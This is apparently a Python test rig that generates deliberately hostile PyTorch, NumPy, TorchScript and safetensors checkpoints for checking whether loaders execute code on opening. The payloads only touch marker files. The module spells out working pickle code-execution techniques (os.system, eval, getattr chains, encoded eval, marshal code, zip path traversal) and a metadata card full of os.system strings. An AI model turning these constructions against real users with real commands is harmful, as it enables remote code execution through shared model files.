"""Checkpoints that run something when they are opened carelessly. What they run is harmless: it leaves a mark."""

from __future__ import annotations

import codecs
import io
import json
import marshal
import os
import pathlib
import pickle
import shutil
import struct
import subprocess
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch

from rig import sentinel

SENTINEL = b"crig.sentinel\n"
EXTENSION = 240  # a code of the private range, registered by the child


@dataclass(frozen=True)
class Hostile:
    """One file: its name, its bytes, and how a careless program opens it; see ``rig.audited``."""

    name: str
    suffix: str
    data: bytes
    careless: str = "torch"


class Calls:
    """Pickles as a call of ``function`` with ``arguments``."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def text(value: str) -> bytes:
    """The instruction that pushes a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw_bytes(value: bytes) -> bytes:
    """The instruction that pushes bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Instructions that call a global with arguments that are instructions themselves."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def called(function: bytes, *arguments: bytes) -> bytes:
    """Instructions that call what other instructions leave on the stack."""
    return function + b"(" + b"".join(arguments) + b"tR"


def program(body: bytes, protocol: int = 2) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + body + b"."


def torch_zip(pickled: bytes, extra: dict[str, bytes] | None = None, root: str = "archive/") -> bytes:
    """A zip as ``torch.save`` writes it, with this description."""
    entries = {"data.pkl": pickled, "byteorder": b"little", "version": b"3\n", "data/0": bytes(16)}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in ({root + k: v for k, v in entries.items()} | (extra or {})).items():
            archive.writestr(name, content)
    return out.getvalue()


def saved(value: Any, **options: Any) -> bytes:
    """What ``torch.save`` makes of a value."""
    out = io.BytesIO()
    torch.save(value, out, **options)
    return out.getvalue()


def tensor_entry() -> bytes:
    """Instructions that make a tensor of four floats from ``data/0``."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x04tQ"
    return call("torch._utils", "_rebuild_tensor_v2", storage, b"K\x00", b"(K\x04t", b"(K\x01t", b"\x89", HOOKS)


HOOKS = call("collections", "OrderedDict")


def state_with(body: bytes) -> bytes:
    """A dictionary of one tensor and one hostile entry."""
    return program(b"}(" + text("input_blocks.0.0.weight") + tensor_entry() + text("step") + body + b"u")


def constructions(marker: Callable[[str], Path], folder: Path) -> Iterator[Hostile]:
    """All of them; ``marker(name)`` is the file that one leaves when it runs, ``folder`` where they will lie."""
    yield from by_globals(marker)
    yield from by_instructions(marker)
    yield from by_chains(marker, folder)
    yield from by_containers(marker)


def by_globals(marker: Callable[[str], Path]) -> Iterator[Hostile]:
    """A dangerous function named openly."""

    def touch(name: str) -> str:
        return f"touch {marker(name)}"

    yield Hostile("os.system, bare pickle", ".pt", pickle.dumps(Calls(os.system, touch("os.system, bare pickle")), 2))
    simple: dict[str, Calls] = {
        "os.system": Calls(os.system, touch("os.system")),
        "subprocess.Popen": Calls(subprocess.Popen, ["touch", str(marker("subprocess.Popen"))]),
        "eval": Calls(eval, f"open({str(marker('eval'))!r}, 'w')"),
        "exec": Calls(exec, f"open({str(marker('exec'))!r}, 'w')"),
        "Path.touch": Calls(pathlib.Path.touch, marker("Path.touch")),
        "open for writing": Calls(open, str(marker("open for writing")), "w"),
        "shutil.copyfile": Calls(shutil.copyfile, "/dev/null", str(marker("shutil.copyfile"))),
    }
    for name, payload in simple.items():
        yield Hostile(name, ".pt", saved({"state_dict": {"w": torch.zeros(2)}, "step": payload}))
    old = {"w": torch.zeros(2), "x": Calls(os.system, touch("os.system, old format"))}
    yield Hostile("os.system, old format", ".pth", saved(old, _use_new_zipfile_serialization=False))
    yield Hostile("hyper-parameters of Lightning", ".ckpt", saved({
        "state_dict": {"w": torch.zeros(2)},
        "hyper_parameters": Calls(os.system, touch("hyper-parameters of Lightning")),
    }))  # fmt: skip
    named = {
        "webbrowser.open": call("webbrowser", "open", text(str(marker("webbrowser.open")))),
        "a socket": call("socket", "create_connection", b"(" + text("127.0.0.1") + b"K\x09t"),
        "ctypes.CDLL": call("ctypes", "CDLL", text("libc.so.6")),
        "a download": call("torch.hub", "load_state_dict_from_url", text("http://127.0.0.1:9/x.pt")),
    }
    for name, body in named.items():
        yield Hostile(name, ".pt", torch_zip(state_with(body)))


def by_instructions(marker: Callable[[str], Path]) -> Iterator[Hostile]:
    """The less known instructions of the pickle machine."""
    trap = SENTINEL + b"Trap\n"
    bodies = {
        "INST": b"(" + text("x") + b"irig.sentinel\nhit\n",
        "OBJ": b"(" + trap + text("x") + b"o",
        "NEWOBJ": SENTINEL + b"NewTrap\n(t\x81",
        "NEWOBJ_EX": SENTINEL + b"NewTrap\n(t}\x92",
        "BUILD on an object": trap + b")R}b",
        "BUILD on a class": trap + b"N}" + text("touched") + b"\x88s\x86b",
        "SETITEMS": trap + b")R(" + text("a") + text("b") + b"u",
        "APPENDS": trap + b")R(" + text("a") + b"e",
        "STACK_GLOBAL": text("rig.sentinel") + text("hit") + b"\x93)R",
        "STACK_GLOBAL, dotted": text("rig.sentinel") + text("Trap.fire") + b"\x93)R",
        "STACK_GLOBAL from the memo": text("hit") + b"q\x050" + text("rig.sentinel") + b"h\x05\x93)R",
        "EXT1": b"\x82" + bytes([EXTENSION]) + b")R",
        "EXT4": b"\x84" + struct.pack("<i", EXTENSION) + b")R",
        "a persistent id": b"(" + text("storage") + call("rig.sentinel", "hit") + b"tQ",
    }
    for name, body in bodies.items():
        yield Hostile(name, ".pt", torch_zip(program(body, 4)))
    yield Hostile("a persistent id as text", ".pt", b"(" + call("rig.sentinel", "hit") + b"P1\nt.", "pickle")


def by_chains(marker: Callable[[str], Path], folder: Path) -> Iterator[Hostile]:
    """A dangerous function reached by way of harmless ones, or hidden in data."""

    def command(name: str) -> bytes:
        return text(f"touch {marker(name)}")

    name = "a chain of getattr"
    module = call("importlib", "import_module", text("os"))
    system = call("builtins", "getattr", module, text("system"))
    yield Hostile(name, ".pt", torch_zip(program(called(system, command(name)))))
    name = "functools.partial"
    partial = call("functools", "partial", b"cos\nsystem\n", command(name))
    yield Hostile(name, ".pt", torch_zip(program(called(partial))))
    setter = call("builtins", "setattr", SENTINEL + b"Trap\n", text("touched"), b"\x88")
    yield Hostile("setattr", ".pt", torch_zip(program(setter)))
    name = "a pickle in a pickle"
    inner = pickle.dumps(Calls(os.system, f"touch {marker(name)}"), 2)
    yield Hostile(name, ".pt", torch_zip(program(call("pickle", "loads", raw_bytes(inner)), 3)))
    name = "torch.storage._load_from_bytes"
    inner = saved(Calls(os.system, f"touch {marker(name)}"))
    yield Hostile(name, ".pt", torch_zip(program(call("torch.storage", "_load_from_bytes", raw_bytes(inner)), 3)))
    name = "codecs"
    source = call("_codecs", "decode", text(_rot13(f"open({str(marker(name))!r},'w')")), text("rot13"))
    yield Hostile(name, ".pt", torch_zip(program(call("builtins", "eval", source))))
    script = folder / "script_beside.py"
    script.write_text("from rig import sentinel\nsentinel.hit('script')\n")
    yield Hostile("runpy.run_path", ".pt", torch_zip(program(call("runpy", "run_path", text(str(script))))))
    path = text("sys") + text("path.append") + b"\x93(" + text(str(folder)) + b"tR0"
    yield Hostile("a module beside the file", ".pt", torch_zip(
        program(path + call("importlib", "import_module", text("script_beside")), 4)
    ))  # fmt: skip
    code = marshal.dumps(compile("from rig import sentinel; sentinel.hit('code')", "<file>", "exec"))
    function = call("types", "FunctionType", call("marshal", "loads", raw_bytes(code)), b"}")
    yield Hostile("code in a file", ".pt", torch_zip(program(called(function), 3)))
    name = "torch._utils._rebuild_from_type_v2"
    given = (b"cos\nsystem\n", b"cbuiltins\nint\n", b"(" + command(name) + b"t", b"}")
    rebuilt = call("torch._utils", "_rebuild_from_type_v2", *given)
    yield Hostile(name, ".pt", torch_zip(program(rebuilt)))
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x04tQ"
    hooks = call("torch._utils", "_rebuild_tensor_v2", storage, b"K\x00", b"(K\x04t", b"(K\x01t", b"\x89",
                 call("rig.sentinel", "hit"))  # fmt: skip
    yield Hostile("hooks of a tensor", ".pt", torch_zip(program(hooks)))
    array = np.empty(1, object)
    array[0] = Calls(sentinel.hit, "array")
    yield Hostile("an object array of NumPy in a checkpoint", ".pt", saved({"w": torch.zeros(1), "a": array}))


def _rot13(words: str) -> str:
    return codecs.encode(words, "rot13")


def by_containers(marker: Callable[[str], Path]) -> Iterator[Hostile]:
    """Other containers, and containers that contradict themselves."""
    hit = program(call("rig.sentinel", "hit"))
    yield Hostile("a pickle called .safetensors", ".safetensors", hit, "pickle")
    yield Hostile("the tar of the oldest PyTorch", ".pt", old_tar(hit))
    array = np.empty(1, object)
    array[0] = Calls(sentinel.hit, "array")
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    yield Hostile("an object array of NumPy", ".pt", out.getvalue(), "numpy")
    name = "a name that leaves the folder"
    climbing = {"../" * 12 + str(marker(name)).lstrip("/"): b"x", str(marker(name)): b"x"}
    yield Hostile(name, ".pt", torch_zip(program(b"}"), climbing), "unzip")
    doubled = io.BytesIO(torch_zip(program(b"}")))
    with zipfile.ZipFile(doubled, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the double name
        archive.writestr("archive/data.pkl", hit)
    yield Hostile("two descriptions of one name", ".pt", doubled.getvalue())
    yield Hostile("two roots", ".pt", torch_zip(program(b"}"), {"other/data.pkl": hit, "data.pkl": hit}), "none")
    yield Hostile("a compiled module", ".pt", compiled(), "jit")
    extra = {"archive/code/__torch__.py": b"import os", "archive/constants.pkl": hit}
    yield Hostile("a compiled module with a pickle", ".pt", torch_zip(hit, extra), "none")
    yield Hostile("a card full of code", ".safetensors", card_of_code(marker("a card full of code")), "none")


def old_tar(pickled: bytes) -> bytes:
    """The format of PyTorch before 0.1.10."""
    out = io.BytesIO()
    parts = {"sys_info": pickle.dumps({"little_endian": True}, 2), "storages": pickle.dumps(0, 2) + pickled,
             "tensors": pickle.dumps(0, 2), "pickle": pickled}  # fmt: skip
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name, content in parts.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


class Printing(torch.nn.Module):
    """A module that says something when its state is set, which is when it is loaded."""

    def __init__(self) -> None:
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(2))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """The input with the weight."""
        return x + self.weight


def compiled() -> bytes:
    """A TorchScript archive whose code is interpreted on loading."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.trace(Printing(), torch.zeros(2)), out)
    return out.getvalue()


def card_of_code(marked: Path) -> bytes:
    """A house checkpoint whose card names functions wherever a name may stand."""
    evil = f"__import__('os').system('touch {marked}')"
    card = {
        "name": evil, "title": evil, "description": "{{" + evil + "}}", "architecture": evil,
        "network": {"_target_": "os.system", "args": evil, "!!python/object/apply:os.system": [evil]},
        "schedule": "os:system", "schedule_settings": {"__class__": evil}, "prediction": "builtins.eval",
        "channels": [evil], "classes": [{"name": evil, "color": evil}, {"name": evil, "color": "#ff0000"}],
        "rule": {"spacing_mm": None, "percentiles": [0, 100], "normalise": evil, "multiple": 4},
        "window": [16, 16], "sampler": evil, "sampler_settings": {}, "steps": 3,
    }  # fmt: skip
    header = {"__metadata__": {"diffseg": json.dumps(card), "__reduce__": evil}}
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw
